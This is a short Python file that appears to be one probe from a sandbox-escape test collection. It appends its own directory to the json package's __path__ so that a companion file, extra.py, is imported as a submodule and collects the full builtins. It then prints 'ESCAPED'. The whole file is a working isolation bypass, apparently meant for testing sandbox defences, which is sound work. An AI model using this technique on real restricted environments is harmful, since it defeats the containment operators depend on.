# technique: __path__ of a granted package extended by our directory: our file becomes a submodule of it
# goal: builtins
# source: search paths
# beside: extra.py got = sorted(__builtins__)
import json
json.__path__.append(__file__.rpartition('/')[0])
import json.extra
if '__import__' in json.extra.got and 'open' in json.extra.got:
    print('ESCAPED our file ran with the builtins', len(json.extra.got))
